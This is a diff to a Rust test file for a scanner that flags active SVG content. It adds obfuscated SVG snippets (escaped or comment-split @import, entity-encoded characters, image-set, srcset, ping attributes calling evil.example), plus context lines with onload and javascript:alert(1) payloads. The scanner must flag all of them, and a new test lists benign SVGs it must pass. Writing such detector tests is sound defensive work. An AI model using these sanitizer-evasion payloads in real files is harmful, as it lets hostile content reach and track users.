@@ -182,6 +182,16 @@ fn c06_drawing_that_acts() {
         "<path style=\"fill:\\75rl(//evil.example)\"/>",
         "<style>@import 'https://evil.example/x.css';</style>",
         "<style><![CDATA[ path { fill: URL(https://evil.example/x) } ]]></style>",
+        "<style><g/>@import url(https://evil.example/x)</style>",
+        "<style>@\\69mport \"https://evil.example\"</style>",
+        "<style>@im<!-- </style> -->port \"https://evil.example\"</style>",
+        "<style>&#64;import \"https://evil.example\"</style>",
+        "<svg:style>g{} <g/> @im<![CDATA[port \"//evil.example\"]]></svg:style>",
+        "<style>g { background: image-set('https://evil.example/x' 1x) }</style>",
+        "<style>g { fill: url(/**/'#a'), url(//evil.example) }</style>",
+        "<path style=\"background:-webkit-image-set('https://evil.example/x' 1x)\"/>",
+        "<h:img xmlns:h=\"http://www.w3.org/1999/xhtml\" srcset=\"https://evil.example/x\"/>",
+        "<a href=\"https://a.example\" ping=\"https://evil.example\"><path/></a>",
         "<set attributeName=\"onload\" to=\"alert(1)\"/>",
         "<animate attributeName=\"xlink:href\" values=\"javascript:alert(1)\"/>",
         "<!DOCTYPE svg [<!ENTITY x \"y\">]>",
@@ -195,6 +205,24 @@ fn c06_drawing_that_acts() {
         let found = portal_on_disk(temp.path());
         let codes: Vec<_> = found.diagnostics.iter().map(|it| it.code).collect();
         assert_eq!(codes, ["active-svg"], "{inner}");
+    }
+}
+
+#[test]
+fn c06_drawing_that_only_draws() {
+    for inner in [
+        "<style>.a{fill:url(#b)} .c{fill:url('#d')}</style><text>@import \\o/ url(x)</text>",
+        "<style/><text>@import</text>",
+        "<style><![CDATA[ .a > .b { fill: red } ]]></style>",
+        "<style>@font-face { src: url(data:font/woff2;base64,AA==) }</style>",
+        "<a href=\"https://a.example\"><path/></a>",
+    ] {
+        let temp = write("");
+        fs::create_dir_all(temp.path().join("static")).unwrap();
+        fs::write(temp.path().join("static/a.svg"), svg(inner)).unwrap();
+        let found = portal_on_disk(temp.path());
+        let codes: Vec<_> = found.diagnostics.iter().map(|it| it.code).collect();
+        assert!(!codes.contains(&"active-svg"), "{inner}");
     }
 }
 
